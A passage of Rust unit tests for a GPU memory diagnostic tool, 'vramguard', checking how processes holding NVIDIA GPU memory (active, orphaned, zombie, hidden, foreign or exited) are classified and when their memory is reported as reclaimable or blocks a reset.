//! Classification from hand-built snapshots: one test per rule, plus the awkward cases.

use vramguard_core::diagnose::{CheckStatus, diagnose};
use vramguard_core::report::{Class, UnaccountedCause};
use vramguard_core::snapshot::*;
use vramguard_core::{Policy, Snapshot, WatchFor, classify};

const GIB: u64 = 1 << 30;
const NOW_MS: u64 = 1_800_000_000_000;
const BOOT_MS: u64 = NOW_MS - 86_400_000;

fn gpu(index: u32, used: u64, procs: &[(u32, Option<u64>)]) -> GpuSample {
    GpuSample {
        index,
        uuid: Some(format!("GPU-{index:08x}-0000-0000-0000-000000000000")),
        name: Some("NVIDIA H200".into()),
        pci_bus_id: Some(format!("00000000:{:02X}:00.0", 0x19 + index)),
        minor_number: Some(index),
        memory: Some(GpuMemory {
            total: 140 * GIB,
            reserved: GIB / 2,
            used,
            free: 140 * GIB - used - GIB / 2,
        }),
        persistence_mode: Some(true),
        processes: procs
            .iter()
            .map(|(pid, bytes)| GpuProcess {
                pid: *pid,
                kinds: vec![ProcessKind::Compute],
                used_bytes: *bytes,
            })
            .collect(),
        process_list: ProcessListState::Complete,
        // A window that just began and saw no busy process.
        utilization: Some(UtilizationWindow {
            since_ms: NOW_MS - 1000,
            samples: vec![],
        }),
        failure: None,
        warnings: vec![],
        health: Default::default(),
        mig_devices: Vec::new(),
        telemetry: None,
    }
}

fn proc_(pid: u32, ppid: u32, pgid: u32, comm: &str, gpus: &[u32]) -> ProcessFacts {
    let mut files = vec![DeviceFile::Ctl, DeviceFile::Uvm];
    files.extend(gpus.iter().map(|g| DeviceFile::Gpu(*g)));
    ProcessFacts {
        pid,
        ppid: Some(ppid),
        pgid: Some(pgid),
        sid: Some(pgid),
        state: Some('S'),
        flags: Some(0x400000),
        start_ticks: Some(1000 + pid as u64),
        uid: Some(1000),
        user: Some("alice".into()),
        comm: Some(comm.into()),
        cmdline: Some(vec![comm.into(), "train.py".into()]),
        device_files: if gpus.is_empty() {
            FdScan::Scanned(vec![])
        } else {
            FdScan::Scanned(files)
        },
        // As every kernel since 4.1 writes it: the pid in each namespace, here only the host's.
        nspid: vec![pid],
        ..Default::default()
    }
}

fn snapshot(gpus: Vec<GpuSample>, processes: Vec<ProcessFacts>) -> Snapshot {
    let mut s = Snapshot {
        taken_at_ms: NOW_MS,
        host: HostFacts {
            hostname: Some("node1".into()),
            clock_ticks_per_sec: 100,
            boot_time_ms: Some(BOOT_MS),
            self_pid: 999_999,
            self_ancestors: vec![],
            pid_namespace_is_host: Some(true),
            euid: 0,
            cap_effective: None,
        },
        driver: DriverFacts {
            source: DriverSource::Simulated,
            library: None,
            driver_version: Some("580.159.03".into()),
            nvml_version: Some("13.580.159.03".into()),
        },
        gpus,
        processes,
        departed: vec![],
        scan: ScanFacts {
            proc_root: "/proc".into(),
            dev_dir: "/dev".into(),
            full_fd_scan: true,
            limitations: vec![],
            descendants_unread: Vec::new(),
        },
        work: None,
        job_cgroups: vec![],
        host_memory: None,
        kubelet_pods: None,
    };
    s.normalize();
    s.work = Some(WorkWindow::all_idle(&s, 2000));
    s
}

fn init() -> ProcessFacts {
    ProcessFacts {
        pid: 1,
        ppid: Some(0),
        pgid: Some(1),
        sid: Some(1),
        state: Some('S'),
        comm: Some("systemd".into()),
        device_files: FdScan::Scanned(vec![]),
        nspid: vec![1],
        ..Default::default()
    }
}

#[test]
fn job_leader_with_workers_is_active() {
    let s = snapshot(
        vec![gpu(
            0,
            24 * GIB,
            &[(100, Some(16 * GIB)), (101, Some(8 * GIB))],
        )],
        vec![
            init(),
            proc_(100, 50, 100, "python", &[0]),
            proc_(101, 100, 100, "python", &[0]),
        ],
    );
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    assert_eq!(g.holders.len(), 2);
    assert!(g.holders.iter().all(|h| h.class == Class::Active), "{g:#?}");
    assert!(!g.unaccounted.as_ref().unwrap().significant);
    assert_eq!(g.ghost_bytes, 0);
    let d = diagnose(r);
    assert!(d.verdict.clean, "{:#?}", d.checks);
    assert_eq!(d.exit_code(), 0);
}

#[test]
fn workers_of_a_dead_leader_are_orphans_naming_the_leader() {
    let mut s = snapshot(
        vec![gpu(
            0,
            12 * GIB,
            &[
                (201, Some(4 * GIB)),
                (202, Some(4 * GIB)),
                (300, Some(4 * GIB)),
            ],
        )],
        vec![
            init(),
            proc_(201, 1, 200, "python", &[0]),
            proc_(202, 1, 200, "python", &[0]),
            proc_(300, 1, 300, "vllm", &[0]),
        ],
    );
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 200,
        comm: Some("python".into()),
        cmdline: Some(vec!["python".into(), "train.py".into()]),
        gone_at_ms: NOW_MS - 5000,
    });
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    let by_pid = |pid| g.holders.iter().find(|h| h.pid == pid).unwrap();
    for pid in [201, 202] {
        let h = by_pid(pid);
        assert_eq!(h.class, Class::Orphan, "{h:#?}");
        assert!(h.action.reclaimable);
        let ev = h.evidence.join("\n");
        assert!(ev.contains("200 (python train.py) is gone"), "{ev}");
        assert!(ev.contains("re-parented to init"), "{ev}");
        assert_eq!(h.dead_job.as_ref().unwrap().leader_pid, 200);
    }
    // A daemon that leads its own group under pid 1 is not an orphan.
    assert_eq!(by_pid(300).class, Class::Active);
    assert_eq!(g.ghost_bytes, 8 * GIB);
    // Whether the orphans still work decides their class: watched for `status` too, and the
    // live daemon is not.
    for watch in [WatchFor::Classes, WatchFor::Reclaim] {
        assert_eq!(
            vramguard_core::work_watch_list(&s, &Policy::default(), &r, watch),
            vec![201, 202],
            "{watch:?}"
        );
    }
    let d = diagnose(r);
    assert_eq!(d.exit_code(), 1);
    let cmd = d.verdict.next_steps[0].command.clone().unwrap();
    assert_eq!(cmd, "vramguard reclaim --gpu 0");
    assert_eq!(d.verdict.reclaimable_bytes, 8 * GIB);
}

#[test]
fn a_reused_leader_pid_does_not_keep_the_job_alive() {
    // pid 200 exists again, but as an unrelated process in another group.
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(201, Some(4 * GIB))])],
        vec![
            init(),
            proc_(200, 1, 7000, "bash", &[]),
            proc_(201, 1, 200, "python", &[0]),
        ],
    );
    let r = classify(&s, &Policy::default());
    assert_eq!(r.gpus[0].holders[0].class, Class::Orphan);
}

/// `p` made a pure zombie as the collector reads one: its main thread `Z`, and no other.
fn make_pure_zombie(p: &mut ProcessFacts) {
    p.state = Some('Z');
    p.threads = Some(vec![ThreadFacts {
        tid: p.pid,
        state: 'Z',
        wchan: None,
        leaving: None,
    }]);
}

#[test]
fn a_zombie_leader_means_the_job_is_gone() {
    let mut leader = proc_(200, 50, 200, "python", &[]);
    make_pure_zombie(&mut leader);
    leader.device_files = FdScan::Scanned(vec![]);
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(201, Some(4 * GIB))])],
        vec![init(), leader, proc_(201, 200, 200, "python", &[0])],
    );
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan);
    assert!(h.dead_job.as_ref().unwrap().leader_is_zombie);
}

#[test]
fn zombie_leader_with_running_thread_is_killable() {
    // Re-parented to init, its group's leader (399) gone: its job is gone, and an idle
    // thread left behind by a main thread that exited is something to finish.
    let mut p = proc_(400, 1, 399, "python", &[0]);
    p.state = Some('Z');
    p.threads = Some(vec![
        ThreadFacts {
            tid: 400,
            state: 'Z',
            wchan: None,
            leaving: None,
        },
        ThreadFacts {
            tid: 401,
            state: 'S',
            wchan: Some("futex_wait_queue".into()),
            leaving: None,
        },
        // A thread that has exited too: it holds nothing.
        ThreadFacts {
            tid: 402,
            state: 'Z',
            wchan: None,
            leaving: None,
        },
    ]);
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(400, Some(4 * GIB))])],
        vec![init(), p],
    );
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Zombie);
    assert!(h.action.reclaimable);
    assert!(
        h.evidence
            .join(" ")
            .contains("401 (S, in futex_wait_queue)"),
        "{:?}",
        h.evidence
    );
    // Only threads other than the zombie main thread, and only live ones, hold the device.
    let held = h
        .evidence
        .iter()
        .find(|e| e.starts_with("threads still holding the device: "))
        .unwrap();
    assert!(!held.contains("400 (") && !held.contains("402 ("), "{held}");
    assert_eq!(r.gpus[0].ghost_bytes, 4 * GIB);
}

#[test]
fn thread_stuck_in_d_state_is_not_killable_and_says_why() {
    let mut p = proc_(400, 1, 400, "python", &[0]);
    p.state = Some('Z');
    p.threads = Some(vec![
        ThreadFacts {
            tid: 400,
            state: 'Z',
            wchan: None,
            leaving: None,
        },
        ThreadFacts {
            tid: 402,
            state: 'D',
            wchan: Some("fuse_wait_answer".into()),
            leaving: None,
        },
    ]);
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(400, Some(4 * GIB))])],
        vec![init(), p],
    );
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Zombie);
    assert!(!h.action.reclaimable);
    assert!(
        h.action.summary.contains("uninterruptible"),
        "{}",
        h.action.summary
    );
    assert!(h.evidence.join(" ").contains("fuse_wait_answer"));
    let d = diagnose(r);
    assert!(
        d.verdict
            .next_steps
            .iter()
            .any(|s| s.why.contains("uninterruptible"))
    );
}

#[test]
fn exiting_process_is_a_zombie_class() {
    let mut p = proc_(400, 1, 400, "python", &[0]);
    p.state = Some('D');
    p.flags = Some(PF_EXITING | 0x400000);
    p.threads = Some(vec![ThreadFacts {
        tid: 400,
        state: 'D',
        wchan: Some("nv_wait".into()),
        leaving: None,
    }]);
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(400, Some(4 * GIB))])],
        vec![init(), p],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Zombie);
    assert!(h.evidence[0].contains("PF_EXITING"));
}

#[test]
fn missing_pid_in_a_container_is_foreign() {
    let mut s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );
    s.host.pid_namespace_is_host = Some(false);
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Foreign);
    assert!(
        h.evidence[0].contains("runs in a container"),
        "{:?}",
        h.evidence
    );
    assert!(h.action.summary.contains("hostPID"));
    assert!(!h.action.reclaimable);
    // Foreign memory is not unaccounted: the driver did charge it to a pid.
    assert!(!r.gpus[0].unaccounted.as_ref().unwrap().significant);
    // And it is a context all the same: a reset (even --reset=force) would end it.
    let blockers = &r.gpus[0].reset_blockers;
    assert!(
        blockers
            .iter()
            .any(|b| b.pid == 4121 && b.reason.contains("foreign")),
        "{blockers:?}"
    );
}

#[test]
fn a_listed_pid_seen_exiting_is_a_context_being_torn_down() {
    // The agent saw pid 4121 exit 1.5 s ago; the driver still lists it with its memory.
    let mut s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 4121,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 1500,
    });
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Exited);
    assert!(
        h.evidence[0].contains("pid 4121 (python3) exited 1.5s ago")
            && h.evidence[1].contains("tearing its context down"),
        "{:?}",
        h.evidence
    );
    assert!(h.keepers.is_empty());
    assert!(h.action.summary.starts_with("none yet"));
    assert!(!h.action.reclaimable);
    assert_eq!(
        r.gpus[0].ghost_bytes, 0,
        "memory on its way back, that no process keeps, is no ghost"
    );
    assert_eq!(r.gpus[0].unkept_exited_bytes(), 8 * GIB);
    assert_eq!(r.unexplained_bytes(), 0);
    // Past the two minutes a teardown may take, it is residue: ghost, and a reset frees it.
    s.departed[0].gone_at_ms = NOW_MS - 300_000;
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Exited);
    assert!(
        h.evidence[0].contains("exited 5m00s ago") && h.evidence[1].contains("never torn down"),
        "{:?}",
        h.evidence
    );
    let u = r.gpus[0].unaccounted.as_ref().unwrap();
    assert_eq!(u.bytes, 8 * GIB);
    assert_eq!(u.cause, Some(UnaccountedCause::DriverResidue));
    assert!(
        u.explanation
            .iter()
            .any(|l| l.contains("pid 4121, which exited long ago"))
    );
    assert_eq!(r.gpus[0].ghost_bytes, 8 * GIB);
    assert!(
        r.gpus[0].reset_blockers.is_empty(),
        "a gone pid blocks no reset"
    );
    // Without the sighting: exited (vramguard sees the host's PID namespace and every
    // process), and no process keeps it.
    s.departed.clear();
    let h = classify(&s, &Policy::default()).gpus[0].holders[0].clone();
    assert_eq!(h.class, Class::Exited);
    assert!(
        h.evidence[0].starts_with("pid 4121 exited, but the driver still lists it with 8.0 GiB"),
        "{:?}",
        h.evidence
    );
}

#[test]
fn in_a_container_a_local_exit_explains_a_listed_pid_only_when_the_driver_reports_local_pids() {
    // vramguard in a container saw its pid 4121 exit five minutes ago. The driver lists 4121.
    let mut s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );
    s.host.pid_namespace_is_host = Some(false);
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 4121,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 300_000,
    });
    // Nothing shows the driver reporting this namespace's pids: 4121 may be a live host
    // process, so it is neither a teardown nor residue.
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert!(
        h.evidence[0].contains("runs in a container"),
        "{:?}",
        h.evidence
    );
    assert_eq!(
        r.gpus[0].ghost_bytes, 0,
        "a possibly live host process is no ghost"
    );
    // Another listed pid is a process here holding the GPU: the driver reports our pids, and
    // the exit seen here is what the listing means.
    s.gpus[0] = gpu(0, 10 * GIB, &[(4121, Some(8 * GIB)), (500, Some(2 * GIB))]);
    s.processes.push(proc_(500, 1, 500, "python3", &[0]));
    let r = classify(&s, &Policy::default());
    let h = r.gpus[0].holders.iter().find(|h| h.pid == 4121).unwrap();
    assert!(
        h.evidence[0].contains("pid 4121 (python3) exited 5m00s ago"),
        "{:?}",
        h.evidence
    );
    assert_eq!(r.gpus[0].ghost_bytes, 8 * GIB);
}

#[test]
fn a_kernel_thread_at_the_reported_pid_means_the_listed_process_exited_and_its_pid_was_reused() {
    let kthread = ProcessFacts {
        pid: 2,
        ppid: Some(0),
        pgid: Some(0),
        comm: Some("kthreadd".into()),
        flags: Some(PF_KTHREAD),
        device_files: FdScan::Scanned(vec![]),
        // Its own NSpid line names the reported pid: no nested namespace uses it for all that.
        nspid: vec![2],
        ..Default::default()
    };
    let s = snapshot(
        vec![gpu(0, 8 * GIB, &[(2, Some(8 * GIB))])],
        vec![init(), kthread],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Exited);
    assert!(
        h.evidence[0].contains("kthreadd (a kernel thread)")
            && h.evidence[0].contains("its pid was reused"),
        "{:?}",
        h.evidence
    );
    // In a container the same pid is another namespace's: foreign.
    let mut s = s;
    s.host.pid_namespace_is_host = Some(false);
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Foreign);
}

#[test]
fn container_pid_maps_back_through_nspid() {
    let kthread = ProcessFacts {
        pid: 2,
        comm: Some("kthreadd".into()),
        flags: Some(PF_KTHREAD),
        device_files: FdScan::Scanned(vec![]),
        ..Default::default()
    };
    let mut inside = proc_(5123, 5100, 5100, "python", &[0]);
    inside.nspid = vec![5123, 2];
    inside.container = Some(ContainerRef {
        runtime: "docker".into(),
        id: "ab".repeat(32),
        name: None,
    });
    let leader = proc_(5100, 1, 5100, "bash", &[]);
    let s = snapshot(
        vec![gpu(0, 8 * GIB, &[(2, Some(8 * GIB))])],
        vec![init(), kthread, leader, inside],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.pid, 5123);
    assert_eq!(h.reported_pid, Some(2));
    assert_eq!(h.class, Class::Active);
    assert!(h.evidence[0].contains("NSpid 5123 2"), "{:?}", h.evidence);
    assert_eq!(h.container.as_ref().unwrap().runtime, "docker");
}

#[test]
fn unlisted_device_holder_is_hidden_and_reclaimable_only_when_its_job_is_gone() {
    let s = snapshot(
        vec![gpu(0, 10 * GIB, &[])],
        vec![
            init(),
            proc_(600, 1, 599, "python", &[0]),  // job gone
            proc_(700, 50, 700, "python", &[0]), // leads its own job
        ],
    );
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    let h600 = g.holders.iter().find(|h| h.pid == 600).unwrap();
    let h700 = g.holders.iter().find(|h| h.pid == 700).unwrap();
    assert_eq!(h600.class, Class::Hidden);
    assert!(h600.action.reclaimable);
    assert_eq!(h700.class, Class::Hidden);
    assert!(!h700.action.reclaimable);
    let un = g.unaccounted.as_ref().unwrap();
    assert!(un.significant);
    assert_eq!(un.cause, Some(UnaccountedCause::HiddenHolders));
    let d = diagnose(r);
    assert!(
        d.verdict.next_steps[0]
            .command
            .as_ref()
            .unwrap()
            .contains("hidden")
    );
}

#[test]
fn no_holder_of_a_gpu_whose_process_lists_failed_is_judged_idle() {
    // A worker of a dead job computing on GPU 1 with long kernels and little CPU: while GPU 1
    // reads fine it is listed there and its utilization shows; when GPU 1's lists fail it is
    // an unlisted holder of /dev/nvidia1 whose work nobody can see, never idle.
    let holders = || vec![init(), proc_(600, 1, 599, "python", &[1])];
    let failed = CallError {
        call: "nvmlDeviceGetComputeRunningProcesses_v3".into(),
        code: Some(999),
        message: "Unknown Error".into(),
    };
    let readable = snapshot(vec![gpu(0, 0, &[]), gpu(1, 10 * GIB, &[])], holders());
    let h = |r: &vramguard_core::Report| r.gpus[1].holders.iter().find(|h| h.pid == 600).cloned();
    let control = classify(&readable, &Policy::default());
    assert!(
        h(&control).unwrap().action.reclaimable,
        "the control must be reclaimable"
    );
    let mut lost_list = gpu(1, 10 * GIB, &[]);
    lost_list.process_list = ProcessListState::Unavailable {
        error: failed.clone(),
    };
    let mut lost_gpu = gpu(1, 0, &[]);
    lost_gpu.memory = None;
    lost_gpu.failure = Some(CallError {
        call: "nvmlDeviceGetMemoryInfo_v2".into(),
        code: Some(15),
        message: "GPU is lost".into(),
    });
    let mut lost_graphics = gpu(1, 10 * GIB, &[]);
    lost_graphics.warnings.push(CallError {
        call: "nvmlDeviceGetGraphicsRunningProcesses_v3".into(),
        ..failed.clone()
    });
    for (what, g1, call) in [
        (
            "compute list",
            lost_list,
            "nvmlDeviceGetComputeRunningProcesses_v3",
        ),
        ("whole GPU", lost_gpu, "nvmlDeviceGetMemoryInfo_v2"),
        (
            "graphics list",
            lost_graphics,
            "nvmlDeviceGetGraphicsRunningProcesses_v3",
        ),
    ] {
        let s = snapshot(vec![gpu(0, 0, &[]), g1], holders());
        let r = classify(&s, &Policy::default());
        let why = format!("GPU 1 could not be read ({call} failed)");
        for held in r.holders().filter(|(_, h)| h.pid == 600) {
            let held = held.1;
            assert!(!held.action.reclaimable, "{what}: {held:#?}");
            match &held.work {
                vramguard_core::report::Work::Unknown { why: w } => {
                    assert!(w.contains(&why), "{what}: {w}")
                }
                other => panic!("{what}: work {other:?}"),
            }
        }
        let plan = vramguard_core::plan::plan_reclaim(
            &s,
            &r,
            &vramguard_core::plan::ReclaimOptions::default(),
        );
        assert_eq!(plan.targets().count(), 0, "{what}: {plan:#?}");
    }
    // Lost before its minor was read, on a host whose /dev/nvidiaN numbering is not the
    // index's (second read of the change): the holder of /dev/nvidia5 may be its holder.
    let mut lost = gpu(1, 0, &[]);
    lost.memory = None;
    lost.minor_number = None;
    lost.failure = Some(CallError {
        call: "nvmlDeviceGetMemoryInfo_v2".into(),
        code: Some(15),
        message: "GPU is lost".into(),
    });
    let s = snapshot(
        vec![gpu(0, 0, &[]), lost],
        vec![init(), proc_(600, 1, 599, "python", &[0, 5])],
    );
    let r = classify(&s, &Policy::default());
    let held: Vec<_> = r.holders().filter(|(_, h)| h.pid == 600).collect();
    assert!(!held.is_empty(), "it holds GPU 0's file too: {r:#?}");
    for (_, h) in held {
        assert!(!h.action.reclaimable, "{h:#?}");
    }
    let plan = vramguard_core::plan::plan_reclaim(
        &s,
        &r,
        &vramguard_core::plan::ReclaimOptions::default(),
    );
    assert_eq!(plan.targets().count(), 0, "{plan:#?}");
}

#[test]
fn a_context_elsewhere_does_not_make_a_hidden_holder_but_blocks_reset() {
    // cuInit opens every visible /dev/nvidiaN: pid 100 computes on GPU 0 only.
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(100, Some(4 * GIB))]), gpu(1, 0, &[])],
        vec![init(), proc_(100, 50, 100, "python", &[0, 1])],
    );
    let r = classify(&s, &Policy::default());
    assert!(r.gpus[1].holders.is_empty(), "{:#?}", r.gpus[1].holders);
    assert_eq!(r.gpus[1].reset_blockers.len(), 1);
    assert_eq!(r.gpus[1].reset_blockers[0].pid, 100);
}

#[test]
fn persistence_daemon_is_system_and_blocks_reset_of_residue() {
    let mut daemon = proc_(50, 1, 50, "nvidia-persiste", &[0, 1]);
    daemon.uid = Some(0);
    daemon.exe = Some(root_exe("/usr/bin/nvidia-persistenced"));
    let s = snapshot(
        vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])],
        vec![init(), daemon],
    );
    let r = classify(&s, &Policy::default());
    let g1 = &r.gpus[1];
    assert_eq!(g1.holders[0].class, Class::System);
    let un = g1.unaccounted.as_ref().unwrap();
    assert!(un.significant);
    assert_eq!(un.cause, Some(UnaccountedCause::DriverResidue), "{un:#?}");
    assert!(un.explanation.iter().any(|e| e.contains("nvidia-persiste")));
    let d = diagnose(r);
    let blockers = d
        .checks
        .iter()
        .find(|c| c.gpu == Some(1) && c.name == "reset blockers")
        .unwrap();
    assert_eq!(blockers.status, CheckStatus::Warn);
    assert!(!d.verdict.clean);
}

#[test]
fn residue_with_no_holder_suggests_a_reset() {
    let s = snapshot(vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])], vec![init()]);
    let r = classify(&s, &Policy::default());
    assert_eq!(r.gpus[1].ghost_bytes, 6 * GIB);
    assert_eq!(
        r.gpus[1].unaccounted.as_ref().unwrap().cause,
        Some(UnaccountedCause::DriverResidue)
    );
    let d = diagnose(r);
    assert_eq!(d.exit_code(), 1);
    assert!(
        d.verdict
            .next_steps
            .iter()
            .any(|s| s.command.as_deref() == Some("vramguard reclaim --gpu 1 --reset=auto"))
    );
    assert_eq!(d.verdict.reclaimable_bytes, 6 * GIB);
    assert!(
        d.verdict.summary.contains("6.0 GiB on GPU 1"),
        "{}",
        d.verdict.summary
    );
}

#[test]
fn residue_without_a_full_scan_is_not_called_residue() {
    let mut s = snapshot(vec![gpu(0, 6 * GIB, &[])], vec![init()]);
    s.scan.full_fd_scan = false;
    let un = classify(&s, &Policy::default()).gpus[0]
        .unaccounted
        .clone()
        .unwrap();
    assert_eq!(un.cause, Some(UnaccountedCause::Unknown));
    assert!(un.explanation[1].contains("vramguard diagnose"));
}

#[test]
fn not_root_cannot_conclude_residue() {
    let mut s = snapshot(vec![gpu(0, 6 * GIB, &[])], vec![init()]);
    s.host.euid = 1000;
    let un = classify(&s, &Policy::default()).gpus[0]
        .unaccounted
        .clone()
        .unwrap();
    assert_eq!(un.cause, Some(UnaccountedCause::Unknown));
    assert!(un.explanation[1].contains("run as root"));
}

#[test]
fn small_unaccounted_memory_is_noise() {
    let s = snapshot(
        vec![gpu(0, 4 * GIB + (100 << 20), &[(100, Some(4 * GIB))])],
        vec![init(), proc_(100, 1, 100, "python", &[0])],
    );
    let un = classify(&s, &Policy::default()).gpus[0]
        .unaccounted
        .clone()
        .unwrap();
    assert_eq!(un.bytes, 100 << 20);
    assert!(!un.significant);
}

#[test]
fn unavailable_per_process_memory_is_never_a_number() {
    let s = snapshot(
        vec![gpu(0, 20 * GIB, &[(100, None)])],
        vec![init(), proc_(100, 1, 100, "python", &[0])],
    );
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    assert_eq!(g.holders[0].used_bytes, None);
    assert_eq!(
        g.unaccounted.as_ref().unwrap().cause,
        Some(UnaccountedCause::PerProcessMemoryUnavailable)
    );
    // Not ghost memory: the live listed process may hold all of it (status and diagnose agree).
    assert_eq!(g.ghost_bytes, 0);
    assert_eq!(r.ghost_bytes(), 0);
    let d = diagnose(r);
    let c = d
        .checks
        .iter()
        .find(|c| c.name == "memory accounted")
        .unwrap();
    assert_eq!(c.status, CheckStatus::Warn);
}

#[test]
fn vramguard_itself_is_never_a_holder() {
    let mut s = snapshot(
        vec![gpu(0, 0, &[])],
        vec![init(), proc_(4242, 1, 4000, "vramguard", &[0])],
    );
    s.host.self_pid = 4242;
    let r = classify(&s, &Policy::default());
    assert!(r.gpus[0].holders.is_empty());
    assert!(r.gpus[0].reset_blockers.is_empty());
}

#[test]
fn idle_holder_after_threshold() {
    let mut g = gpu(0, 2 * GIB, &[(100, Some(GIB)), (101, Some(GIB))]);
    g.utilization = Some(UtilizationWindow {
        since_ms: NOW_MS - 3_600_000,
        samples: vec![UtilizationSample {
            pid: 101,
            sm_percent: 40,
            mem_percent: 10,
            last_seen_ms: NOW_MS - 1000,
            last_busy_ms: Some(NOW_MS - 1000),
        }],
    });
    let s = snapshot(
        vec![g],
        vec![
            init(),
            proc_(100, 50, 100, "python", &[0]),
            proc_(101, 50, 101, "python", &[0]),
        ],
    );
    let r = classify(&s, &Policy::default());
    let h100 = r.gpus[0].holders.iter().find(|h| h.pid == 100).unwrap();
    let h101 = r.gpus[0].holders.iter().find(|h| h.pid == 101).unwrap();
    assert_eq!(h100.class, Class::Idle, "{h100:#?}");
    assert_eq!(h100.idle_secs, Some(3600));
    assert!(!h100.action.reclaimable);
    assert_eq!(h101.class, Class::Active);
    // Its class rests on GPU utilization alone: `status` waits for nothing; a reclaim,
    // which may be asked to take idle holders, watches it work (and its children).
    assert!(
        vramguard_core::work_watch_list(&s, &Policy::default(), &r, WatchFor::Classes).is_empty()
    );
    assert_eq!(
        vramguard_core::work_watch_list(&s, &Policy::default(), &r, WatchFor::Reclaim),
        vec![100]
    );
    let d = diagnose(r);
    assert!(d.verdict.clean, "idle is informational");
    assert!(
        d.checks
            .iter()
            .any(|c| c.name == "idle holders" && c.status == CheckStatus::Warn)
    );
}

#[test]
fn a_failed_gpu_does_not_hide_the_others() {
    let mut lost = gpu(1, 0, &[]);
    lost.memory = None;
    lost.processes.clear();
    lost.failure = Some(CallError {
        call: "nvmlDeviceGetMemoryInfo_v2".into(),
        code: Some(15),
        message: "GPU is lost".into(),
    });
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(100, Some(4 * GIB))]), lost],
        vec![init(), proc_(100, 1, 100, "python", &[0])],
    );
    let r = classify(&s, &Policy::default());
    assert_eq!(r.gpus.len(), 2);
    assert_eq!(r.gpus[0].holders.len(), 1);
    assert!(r.gpus[1].unaccounted.is_none());
    let d = diagnose(r);
    let c = d
        .checks
        .iter()
        .find(|c| c.gpu == Some(1) && c.name == "readable")
        .unwrap();
    assert_eq!(c.status, CheckStatus::Fail);
    assert!(
        c.evidence.contains("GPU is lost (code 15)"),
        "{}",
        c.evidence
    );
    assert!(d.verdict.summary.contains("GPU 1 could not be read"));
}

#[test]
fn driver_in_the_535_window_is_warned_about() {
    let mut s = snapshot(vec![gpu(0, 0, &[])], vec![init()]);
    s.driver.driver_version = Some("535.54.03".into());
    let d = diagnose(classify(&s, &Policy::default()));
    let c = d
        .checks
        .iter()
        .find(|c| c.name == "driver version")
        .unwrap();
    assert_eq!(c.status, CheckStatus::Warn);
    assert!(c.evidence.contains("_v3"));
}

#[test]
fn unsorted_process_list_is_handled() {
    let mut s = snapshot(vec![gpu(0, 4 * GIB, &[(201, Some(4 * GIB))])], vec![]);
    s.processes = vec![proc_(201, 1, 200, "python", &[0]), init()];
    assert_eq!(
        classify(&s, &Policy::default()).gpus[0].holders[0].class,
        Class::Orphan
    );
}

#[test]
fn snapshot_json_replays_to_the_same_report() {
    let s = snapshot(
        vec![
            gpu(0, 12 * GIB, &[(201, Some(4 * GIB))]),
            gpu(1, 6 * GIB, &[]),
        ],
        vec![init(), proc_(201, 1, 200, "python", &[0])],
    );
    let json = serde_json::to_string(&s).unwrap();
    let back: Snapshot = serde_json::from_str(&json).unwrap();
    assert_eq!(back, s);
    assert_eq!(
        classify(&back, &Policy::default()),
        classify(&s, &Policy::default())
    );
}

#[test]
fn an_nspid_candidate_beats_a_same_numbered_pid_whose_files_are_unreadable() {
    // The driver reports "1" (the pid inside a container); our pid 1 is init, whose fds we
    // cannot read; exactly one namespaced process has inner pid 1 and holds nvidia0.
    let mut init = init();
    init.device_files = FdScan::Denied;
    let mut inside = proc_(5123, 5100, 5123, "python", &[0]);
    inside.nspid = vec![5123, 1];
    let s = snapshot(
        vec![gpu(0, 8 * GIB, &[(1, Some(8 * GIB))])],
        vec![init, inside],
    );
    let r = classify(&s, &Policy::default());
    assert_eq!(r.gpus[0].holders.len(), 1, "{:#?}", r.gpus[0].holders);
    assert_eq!(r.gpus[0].holders[0].pid, 5123);
    assert_eq!(r.gpus[0].holders[0].reported_pid, Some(1));
}

#[test]
fn an_unreadable_pid_without_a_candidate_is_taken_at_its_word() {
    let mut other = proc_(4000, 1, 4000, "python", &[]);
    other.device_files = FdScan::Denied;
    let s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4000, Some(8 * GIB))])],
        vec![init(), other],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.pid, 4000);
    assert_eq!(h.class, Class::Active);
}

#[test]
fn memory_health_findings_are_checks_with_a_command() {
